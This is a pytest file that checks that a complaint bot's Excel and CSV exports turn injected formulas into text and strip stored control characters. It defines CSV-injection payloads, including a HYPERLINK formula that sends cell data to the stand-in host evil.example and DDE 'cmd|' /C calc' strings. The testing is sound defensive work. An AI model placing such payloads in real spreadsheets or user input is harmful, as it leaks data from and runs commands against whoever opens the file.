"""Exports officials open in Excel: what residents typed or officials imported is text, never a
formula (OWASP "CSV injection"), and control characters already stored never stop an export.

Every export and every sheet: the complaint register (.xlsx and .csv), the SKM workbook and the
performance workbook. The attack strings arrive the ways they would: typed in the chat, imported
from a file, or already stored (written straight to the database, as an older version or a
careless edit may have left them).
"""

from __future__ import annotations

import asyncio
import csv
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bot.cli import main
from db import surveys
from db.engine import Database
from db.indicators import ActivityInput, ProgramInput, upsert_activities, upsert_programs
from db.models import Complaint, ComplaintEvent, ComplaintRating, ProgramIndicator
from iku.skm import UNSUR_KEYS
from iku.survey_forms import PaperForm, SurveyAnswers
from tests.bot.test_complaints_cli import config_file, run
from tests.factories import BotHarness, file_complaint, move

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"klik")'
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+2"
CR = "\r=3+4"
# What a reader sees of each once stored text is cleaned: the leading tab or CR is trimmed.
SHOWN = {HYPERLINK: HYPERLINK, PLUS: PLUS, MINUS: MINUS, AT: AT, TAB: "=1+2", CR: "=3+4"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
WIB = ZoneInfo("Asia/Jakarta")
NOW = datetime(2025, 2, 17, 2, tzinfo=UTC)


@pytest.fixture
def cli(
    bot: BotHarness, tmp_path: Path, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> list[str]:
    """``ajung-bot --config ...`` on the bot's database, at the bot's clock."""
    monkeypatch.setattr("db.base.utcnow", bot.clock)
    return ["--config", str(config_file(tmp_path, database_url))]


def xlsx_cells(path: Path) -> Iterator[Any]:
    """Every cell of every sheet of the workbook at ``path``."""
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(path: Path) -> list[Any]:
    """No cell of any sheet is a formula; the cells holding text, for further checks."""
    cells = list(xlsx_cells(path))
    assert cells
    formulas = [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    assert formulas == []
    return [cell for cell in cells if isinstance(cell.value, str)]


def text_cells(path: Path, text: str) -> list[Any]:
    """The cells whose whole text is ``text``: each must be a string that stays one on editing
    (Excel's quote prefix)."""
    found = [cell for cell in assert_no_formula(path) if cell.value == text]
    for cell in found:
        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate
    return found


def csv_rows(path: Path) -> list[list[str]]:
    """The fields of an exported CSV file (UTF-8 after a byte order mark, ';' between fields)."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def stored(database_url: str, *statements: Any) -> None:
    """Write straight to the database, as an older version may have left the data."""

    async def write() -> None:
        database = Database(database_url)
        try:
            async with database.transaction() as session:
                for statement in statements:
                    await session.execute(statement)
        finally:
            await database.dispose()

    asyncio.run(write())


async def two_complaints(bot: BotHarness, database_url: str) -> None:
    """One typed with a formula as its description, then moved, finished and rated, with the
    other attacks as its place, note and comment; a second, open, with the tab and CR ones."""
    siti = bot.person(first_name="Siti")
    first = await file_complaint(siti, description=HYPERLINK)
    group = bot.official()
    await move(group, first, "✔️ Verifikasi", "sudah dicek di lapangan")
    await move(group, first, "▶️ Proses", "sedang ditangani petugas")
    await move(group, first, "✅ Selesai", "motor sudah ditertibkan")
    await siti.tap("3 Puas")
    await siti.send("Terima kasih banyak")
    second = await file_complaint(bot.person(5550002, first_name="Budi"))
    await asyncio.to_thread(
        stored,
        database_url,
        update(Complaint).where(Complaint.code == first).values(place=PLUS),
        update(ComplaintEvent).where(ComplaintEvent.note.is_not(None)).values(note=MINUS),
        update(ComplaintRating).values(comment=AT),
        update(Complaint).where(Complaint.code == second).values(place=TAB, description=CR),
    )


# --- formulas -------------------------------------------------------------------------------


async def test_register_xlsx_holds_typed_formulas_as_text(
    bot: BotHarness, cli: list[str], tmp_path: Path, database_url: str
) -> None:
    await two_complaints(bot, database_url)
    out = tmp_path / "register.xlsx"
    assert await run(*cli, "complaints", "export", "--from", "2025-02-01", "--out", str(out)) == 0
    for attack in (HYPERLINK, PLUS, AT, TAB, CR):
        assert len(text_cells(out, SHOWN[attack])) == 1, attack
    notes = [cell.value for cell in assert_no_formula(out) if MINUS in cell.value]
    assert len(notes) == 1 and notes[0].count(f": {MINUS}") == 3


async def test_register_csv_neutralises_every_field_that_could_start_a_formula(
    bot: BotHarness, cli: list[str], tmp_path: Path, database_url: str
) -> None:
    await two_complaints(bot, database_url)
    out = tmp_path / "register.csv"
    assert await run(*cli, "complaints", "export", "--from", "2025-02-01", "--out", str(out)) == 0
    fields = [field for row in csv_rows(out) for field in row]
    for attack in (HYPERLINK, PLUS, AT, TAB, CR):
        assert fields.count("'" + SHOWN[attack]) == 1, attack
    assert [field for field in fields if field.startswith(TRIGGERS)] == []
    # Every field quoted, quotes inside doubled: the text survives any CSV reader.
    raw = out.read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&B2,""klik"")"' in raw
    assert raw.startswith('"')


def paper_forms_csv(path: Path, sarans: list[str]) -> Path:
    header = ["tanggal", "layanan", "jenis_kelamin", "usia", "pendidikan", "pekerjaan",
              *UNSUR_KEYS, "saran"]  # fmt: skip
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        for number, saran in enumerate(sarans, start=1):
            writer.writerow([f"2025-02-{number:02d}", "KTP", "L", 30, "SMA", "PNS",
                             *[3] * 9, saran])  # fmt: skip
    return path


def test_skm_workbook_holds_imported_suggestions_as_text(
    tmp_path: Path, database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    config = str(config_file(tmp_path, database_url))
    forms = paper_forms_csv(tmp_path / "formulir.csv", [HYPERLINK, PLUS, MINUS, AT])
    assert main(["--config", config, "survey", "import", str(forms)]) == 0
    out = tmp_path / "skm.xlsx"
    args = ["survey", "export", "--from", "2025-02-01", "--to", "2025-02-28", "--out", str(out)]
    assert main(["--config", config, *args]) == 0
    for attack in (HYPERLINK, PLUS, MINUS, AT):
        sheets = sorted(cell.parent.title for cell in text_cells(out, attack))
        assert sheets == ["Data responden", "Saran"], attack


def plan_files(tmp_path: Path) -> tuple[Path, Path]:
    programs = tmp_path / "program.csv"
    with programs.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["tahun", "kode", "nama", "program", "target", "satuan", "realisasi"])
        writer.writerow([2025, "+P1", HYPERLINK, AT, 12, "-kali", 12])
    activities = tmp_path / "kegiatan.csv"
    with activities.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["tahun", "nama", "bulan", "tanggal_fasilitasi", "peserta", "catatan"])
        writer.writerow([2025, MINUS, 2, "2025-02-10", 30, PLUS])
    return programs, activities


async def test_performance_workbook_holds_imported_and_typed_text_as_text(
    bot: BotHarness, cli: list[str], tmp_path: Path, database_url: str
) -> None:
    await two_complaints(bot, database_url)
    programs, activities = plan_files(tmp_path)
    assert await run(*cli, "program", "import", str(programs)) == 0
    assert await run(*cli, "kegiatan", "import", str(activities)) == 0
    forms = paper_forms_csv(tmp_path / "formulir.csv", [HYPERLINK])
    assert await run(*cli, "survey", "import", str(forms)) == 0
    out = tmp_path / "kinerja.xlsx"
    assert await run(*cli, "export", "--from", "2025-01-01", "--to", "2025-12-31",
                     "--out", str(out)) == 0  # fmt: skip
    where = {
        text: sorted(cell.parent.title for cell in text_cells(out, SHOWN.get(text, text)))
        for text in (HYPERLINK, PLUS, MINUS, AT, TAB, CR, "+P1", "-kali")
    }
    assert where == {
        HYPERLINK: ["Data responden", "IKU 1", "Register pengaduan", "Saran"],
        PLUS: ["IKU 3", "Register pengaduan"],
        MINUS: ["IKU 3"],
        AT: ["IKU 1", "Register pengaduan"],
        TAB: ["Register pengaduan"],
        CR: ["Register pengaduan"],
        "+P1": ["IKU 1"],
        "-kali": ["IKU 1"],
    }


# --- control characters already stored -----------------------------------------------------

ANSI = "\x1b[31mPasar\x1b[0m \x07lama\x0b"
NOTE = "Sudah\x1f ditertibkan\x08"


async def test_every_export_survives_control_characters_already_stored(
    bot: BotHarness, cli: list[str], tmp_path: Path, database_url: str
) -> None:
    nul = "\x00" if database_url.startswith("sqlite") else ""  # PostgreSQL text cannot hold NUL
    siti = bot.person(first_name="Siti")
    code = await file_complaint(siti)
    await move(bot.official(), code, "▶️ Proses", "sedang ditangani petugas")
    await move(bot.official(), code, "✅ Selesai", "motor sudah ditertibkan")
    await siti.tap("4 Sangat puas")
    await siti.send("Terima kasih")
    await asyncio.to_thread(
        stored,
        database_url,
        update(Complaint).values(place=ANSI, description=f"Motor{nul} di \x1b[1mtrotoar"),
        update(ComplaintEvent).where(ComplaintEvent.note.is_not(None)).values(note=NOTE),
        update(ComplaintRating).values(comment=f"Cepat{nul}\x1b[0m"),
    )
    database: Database = bot.application.bot_data["services"].database
    answers = SurveyAnswers("KTP", "L", 30, "SMA", "PNS", dict.fromkeys(UNSUR_KEYS, 3),
                            saran=f"Antre\x1b[33m{nul} lama")  # fmt: skip
    async with database.transaction() as session:
        form = PaperForm(answers, date(2025, 2, 17), None, "kontrol")
        await surveys.record_paper_forms(session, [form], WIB, NOW)
        now = bot.clock()
        name = f"Rapat{nul}\x1b[2J koordinasi"
        program = ProgramInput(2025, "P\x071", name, "", 12, "kali", realization=12)
        await upsert_programs(session, [program], actor="test", now=now)
        activity = ActivityInput(2025, "Pelatihan\x0c UMKM", 2, date(2025, 2, 10), 3, "ok\x1b")
        await upsert_activities(session, [activity], actor="test", now=now)

    register = tmp_path / "register.xlsx"
    assert await run(*cli, "complaints", "export", "--out", str(register)) == 0
    texts = {cell.value for cell in assert_no_formula(register)}
    assert {"Pasar lama", "Motor di trotoar", "Cepat"} <= texts
    assert any(text.endswith(": Sudah ditertibkan") for text in texts)

    register_csv = tmp_path / "register.csv"
    assert await run(*cli, "complaints", "export", "--out", str(register_csv)) == 0
    fields = {field for row in csv_rows(register_csv) for field in row}
    assert {"Pasar lama", "Motor di trotoar", "Cepat"} <= fields

    skm = tmp_path / "skm.xlsx"
    assert await run(*cli, "survey", "export", "--from", "2025-02-01", "--out", str(skm)) == 0
    assert "Antre lama" in {cell.value for cell in assert_no_formula(skm)}

    book = tmp_path / "kinerja.xlsx"
    assert await run(*cli, "export", "--from", "2025-01-01", "--out", str(book)) == 0
    texts = {cell.value for cell in assert_no_formula(book)}
    assert {"Pasar lama", "Antre lama", "P1", "Rapat koordinasi", "Pelatihan UMKM", "ok"} <= texts


def test_a_stored_infinite_target_is_written_as_text(
    tmp_path: Path, database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Imports once let ``1e309`` in as infinity; Excel cannot open a workbook holding it as a
    number, so the export writes it as text the official can find and correct."""

    async def plan() -> None:
        database = Database(database_url)
        try:
            async with database.transaction() as session:
                program = ProgramInput(2025, "P1", "Rapat koordinasi", "", 12, "kali")
                await upsert_programs(session, [program], actor="test", now=NOW)
                await session.execute(update(ProgramIndicator).values(target=float("inf")))
        finally:
            await database.dispose()

    asyncio.run(plan())
    config = str(config_file(tmp_path, database_url))
    out = tmp_path / "kinerja.xlsx"
    assert main(["--config", config, "export", "--from", "2025-01-01", "--to", "2025-12-31",
                 "--out", str(out)]) == 0  # fmt: skip
    [row] = [row for row in load_workbook(out)["IKU 1"].iter_rows() if row[0].value == "P1"]
    assert (row[3].value, row[3].data_type) == ("inf", "s")


def test_exports_write_rows_only_through_the_one_safe_place() -> None:
    """A new sheet written with openpyxl's own ``append`` or ``cell(value=...)`` would let
    formulas and control characters back in: every writer goes through append_row."""
    bot_dir = Path(__file__).resolve().parents[2] / "bot"
    pattern = re.compile(r"\.append\(\s*\[|\.cell\([^)]*value\s*=|\]\s*=\s*[^=]")
    offending = [
        f"{path.name}:{number}"
        for path in sorted(bot_dir.glob("*.py"))
        if "openpyxl" in (source := path.read_text(encoding="utf-8")) and path.name != "tabular.py"
        for number, line in enumerate(source.splitlines(), start=1)
        if pattern.search(line) and "sheet" in line
    ]
    assert offending == []
